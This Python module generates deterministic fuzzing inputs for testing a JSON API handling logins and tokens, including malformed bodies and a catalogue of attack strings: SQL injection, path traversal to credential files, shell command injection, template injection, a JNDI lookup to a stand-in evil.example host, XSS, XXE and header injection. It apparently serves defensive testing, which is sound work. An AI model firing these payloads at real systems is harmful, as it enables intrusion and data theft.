"""Documents and strings that nobody sends by mistake; made by plain code, the same at every run."""

from __future__ import annotations

import json
import random
import string

FIELDS = (
    *("username", "password", "email", "item", "current", "new", "refresh_token", "token"),
    *("advance", "hold", "store", "us", "role", "disabled", "header", "payload", "csrf_token"),
)
GOOD = json.dumps(dict.fromkeys(FIELDS, "x.y@example.org")).encode()


def all_fields(value: str) -> bytes:
    """Write an object whose every member has this value, given as JSON text."""
    return ("{" + ", ".join(f'"{name}": {value}' for name in FIELDS) + "}").encode()


# fmt: off


def broken_documents() -> list[bytes]:
    """List bodies that are no JSON object, or not one that two parsers would read alike."""
    choose = random.Random(300)  # noqa: S311 - which damage, not whose secret
    cuts = [GOOD[:length] for length in range(0, len(GOOD), 5)]
    damaged = []
    for odd in [*b"\x00\x01\x08\x0b\x1f\x7f\x80\xa0\xc0\xc3\xed\xf5\xff", *b"{}[]:,'`/*#\\"]:
        for place in choose.sample(range(1, len(GOOD) - 1), 6):
            damaged.append(GOOD[:place] + bytes([odd]) + GOOD[place:])
    damaged = [one for one in damaged if not _is_plain(one)]
    tails = [
        GOOD + tail
        for tail in (b"x", b"{}", b",", b"\x00", b"//", b"/**/", b"]", b"}", b"\xef\xbb\xbf", GOOD)
    ]
    heads = [
        head + GOOD
        for head in (b"\xef\xbb\xbf", b")]}',\n", b"while(1);", b"\x00", b"x=", b"[", b"(", b"//\n")
    ]
    others = [
        GOOD.decode().encode(code)
        for code in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037", "utf-7")
    ]
    others = [one for one in others if one != GOOD]
    values = [
        b"null", b"true", b"false", b"0", b"-0", b"1e999", b'""', b'"text"', b"[]", b"[{}]",
        b"[" + GOOD + b"]",
    ]
    values += [
        b"NaN", b"Infinity", b"-Infinity", b"undefined", b"None", b"nil", b"0x1", b"01", b"+1", b".5",
        b"1.", b"- 1",
    ]
    values += [
        b"'a'", b"{'a': 1}", b"{a: 1}", b'{"a"}', b'{"a":}', b"{,}", b'{"a": 1,}', b'{"a": 1 "b": 2}',
        b"{1: 2}",
    ]
    values += [
        b" ", b"\t\r\n", b"\x0c", b"\xa0", b"<xml/>", b"a=1&b=2", b"---\na: 1", b"\x80\x04N.",
        b"\x82\xa1a\x01",
    ]
    nested = [opens * depth for depth in (100, 990, 1_000, 5_000, 8_000) for opens in (b"[", b'{"a":')]
    nested += [b"[" * depth + b"]" * depth for depth in (500, 8_000)]
    nested += [all_fields("[" * depth + "]" * depth) for depth in (3, 300)]
    twice = [b'{"username": 1, ' + GOOD[1:], GOOD[:-1] + b', "\\u0075sername": "grace"}']
    twice += [GOOD[:-1] + f', "{name}": "again"}}'.encode() for name in FIELDS]
    return [*cuts, *damaged, *tails, *heads, *others, *values, *nested, *twice]


def _is_plain(text: bytes) -> bool:
    """Tell whether damage has left a JSON object all the same."""
    try:
        return isinstance(json.loads(text.decode("utf-8")), dict)
    except ValueError:
        return False


def wrong_documents() -> list[bytes]:
    """List JSON objects in which every member is of a type or a size that no operation takes."""
    values = [
        "[]", "{}", "[null]", '["ada"]', '{"$ne": null}', '{"$gt": ""}',
        '{"__proto__": {"role": "admin"}}',
    ]
    values += [
        '{"toString": 1}', "[[[[]]]]", '[{"a": [1]}]', '{"": ""}', '"\\ud800"', '"\\udfff\\ud800"',
        '"a\\udc00b"',
    ]
    values += [
        "NaN", "Infinity", "-Infinity", "1e400", "-1e400", "9" * 5000, "-" + "9" * 4999,
        "0." + "1" * 5000 + "e400",
    ]
    values += [
        json.dumps([number]) for number in (0, -1, 2**31, 2**53, 2**63, 2**64, 10**30, 0.1, 1e308, 5e-324)
    ]
    values += [
        json.dumps({"key": text}) for text in ("", "a", "\x00", "é", "💥", "constructor", "../..", "%00")
    ]
    return [all_fields(value) for value in values if len(value) * len(FIELDS) < 15_000]


def large_documents() -> list[bytes]:
    """List bodies on both sides of the limit of 16 KiB, and well beyond."""
    sizes = [16 * 1024 + more for more in (1, 2, 100, 16 * 1024)]
    return [body for size in sizes for body in (b" " * size, b'{"username": "' + b"a" * (size - 16) + b'"}')]


def strings() -> list[str]:
    """List texts that have broken one program or another."""
    singles = [chr(number) for number in range(0x20)] + ["\x7f", *map(chr, range(0x80, 0xA0))]
    singles += [f"a{one}b" for one in string.punctuation]
    marks = "\u00a0\u00ad\u034f\u0600\u061c\u115f\u180e\u200b\u200d\u200e\u202a\u202e\u2028\u2029\u2060\u2066"
    marks += "\ufeff"
    marks += "\ufff9\ufffc\ufffd\ufffe\uffff\ufdd0\u0300\u0489\u0e47\u1e9e\u0130\u0131\u017f\u212a"
    marks += "\uff21\uff10\u0661\u4e00"
    marks += "\U0001f600\U0001f468\U000e0001\U000e0041\U0010fffd\U0010ffff\U0001d7d8\ud7ff\ue000"
    sql = [
        "' OR 1=1 --", '" OR ""="', "'; DROP TABLE users;--", "ada'--",
        "1 UNION SELECT password FROM users", "%' --",
    ]
    sql += [
        "ada\x00'", "\\'; --", "x' AND randomblob(100000000) --", "admin'/*", "') OR ('1'='1",
        "*)(uid=*))(|(uid=*",
    ]
    paths = [
        "../../etc/passwd", "..\\..\\boot.ini", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2f",
        "/etc/shadow",
    ]
    paths += [
        "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "C:\\con\\con", "CON", "NUL.txt",
        "/dev/zero",
    ]
    paths += [
        "/proc/self/environ", "~root", ".git/config", "..%c0%af", "..%252f", "a/../../b", "./.", "/", "//",
        "?", "#",
    ]
    shells = [
        "$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "%PATH%", "${IFS}id", "\n/bin/id\n",
        "() { :;}; id",
    ]
    forms = [
        "%s%s%s%n", "%99999999d", "{0.__class__}", "{}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
        "{% raw %}",
    ]
    forms += [
        "{{ config }}", "{{''.__class__.__mro__}}", "__import__('os')", "${jndi:ldap://evil.example/a}",
        "!!python/object",
    ]
    html = [
        "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "<!--",
        "]]>", "&lt;",
    ]
    html += [
        "<svg/onload=alert(1)>", "</textarea>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
        "&#0;", "\x1b[2J",
    ]
    heads = [
        "a\r\nSet-Cookie: sid=1", "a\nLocation: http://evil.example", "a\r\n\r\n<html>", "%0d%0aX: y",
        "\u560a\u560d",
    ]
    numbers = [
        "0", "-1", "1e400", "NaN", "Infinity", "9" * 400, "0x7fffffff", "1/0", "\u0661\u0662", "1_000",
        "٣", "²", "½",
    ]
    words = [
        "null", "undefined", "None", "true", "__proto__", "constructor", "hasOwnProperty", "ada", "ADA",
        "ada ", " ada",
    ]
    words += [
        "\u0430da", "\uff41\uff44\uff41", "ada\u0301", "ada\u200b", "admin", "root", "*", "%", "_", "", " ",
        "\t", "a\tb", "a b", "''", '""',
    ]
    tokens = [
        "a.b.c", "..", ".", "e30.e30.", "eyJhbGciOiJub25lIn0.e30.", "Bearer x", "a,b", "a;b", "sid=a", "=",
        "==", "a=b; sid=c",
    ]
    tokens += [
        "A" * 43, "A" * 22 + "." + "A" * 43, "A" * 43 + "=", "-" * 43, "_" * 43, "é" * 43,
        "$argon2id$v=19$m=1,t=1,p=1$a$b",
    ]
    mails = [
        "a@b", "@", "a@", "@b", "a@b@c", "a" * 64 + "@" + "b." * 90, "a@" + "-" * 180 + "!", "a b@c",
        "a@b\n", '"a"@b', "a@[::1]",
    ]
    long = ["a" * size for size in (31, 32, 33, 64, 65, 100, 101, 254, 255, 256, 257, 1_000)]
    long += [one * 300 for one in ("é", "💥", "\u0300", "%", "\\", '"', "/", "../", "&", "{{", "(", "\u202e")]
    made = [
        *singles, *marks, *sql, *paths, *shells, *forms, *html, *heads, *numbers, *words, *tokens, *mails,
        *long,
    ]
    return [one for one in dict.fromkeys(made) if one.encode("utf-8", "ignore").decode() == one]
